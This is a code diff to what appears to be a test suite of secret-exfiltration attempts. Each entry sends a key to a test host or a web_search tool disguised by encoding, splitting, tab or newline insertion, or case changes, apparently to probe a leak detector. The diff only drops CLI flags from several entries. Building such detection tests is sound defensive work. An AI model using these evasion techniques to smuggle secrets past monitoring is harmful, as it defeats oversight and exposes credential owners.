@@ -41,7 +41,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'newline-in-path',
     cls: 'request',
     what: 'a newline every 8 characters in the path',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/p/${enc.every(K, 8, '\n')}`)],
   },
   {
@@ -61,7 +60,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'userinfo-tab',
     cls: 'request',
     what: 'the user name with a TAB every 8 characters',
-    cli: true,
     steps: (v) => [env, fetch(`http://${enc.every(K, 8, '\t')}:x@${hostPort(v)}/`)],
   },
   {
@@ -87,7 +85,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'percent-every-other',
     cls: 'request',
     what: 'every other character percent-encoded, lower-case hex',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/c?k=${[...K].map((c, i) => (i % 2 ? `%${c.charCodeAt(0).toString(16)}` : c)).join('')}`)],
   },
   {
@@ -111,7 +108,7 @@ export const ATTEMPTS: Attempt[] = [
     cli: true,
     steps: (v) => [env, fetch(`${v.base}/c/${enc.b64url(`token=${K}`)}`)],
   },
-  { id: 'hex', cls: 'encoding', what: 'hex', cli: true, steps: (v) => [env, fetch(`${v.base}/c?d=${enc.hex(K)}`)] },
+  { id: 'hex', cls: 'encoding', what: 'hex', steps: (v) => [env, fetch(`${v.base}/c?d=${enc.hex(K)}`)] },
   {
     id: 'hex-upper',
     cls: 'encoding',
@@ -130,7 +127,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'triple-url',
     cls: 'encoding',
     what: 'URL-encoded three times',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/c?d=${encodeURIComponent(encodeURIComponent(enc.percentAll(K)))}`)],
   },
   { id: 'upper-case', cls: 'encoding', what: 'upper case', cli: true, steps: (v) => [env, fetch(`${v.base}/c?d=${K.toUpperCase()}`)] },
@@ -154,14 +150,12 @@ export const ATTEMPTS: Attempt[] = [
     id: 'plus-every-4',
     cls: 'encoding',
     what: 'a "+" (a space in a query) every 4 characters',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/c?d=${enc.every(K, 4, '+')}`)],
   },
   {
     id: 'base64-reversed-case',
     cls: 'encoding',
     what: 'base64 of "xx" + the key, upper-cased',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/c?d=${enc.b64(`xx${K}`).toUpperCase()}`)],
   },
   // Splits over calls to one destination.
@@ -176,7 +170,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'halves-path-then-query',
     cls: 'split',
     what: 'first half in a path, second in a query',
-    cli: true,
     steps: (v) => [env, fetch(`${v.base}/a/${K.slice(0, 20)}`), fetch(`${v.base}/b?x=${K.slice(20)}`)],
   },
   {
@@ -224,7 +217,6 @@ export const ATTEMPTS: Attempt[] = [
     id: 'search-reversed-upper',
     cls: 'search',
     what: 'web_search reversed and upper-cased',
-    cli: true,
     steps: () => [env, search(enc.reversed(K).toUpperCase())],
   },
   ...LEARNED,
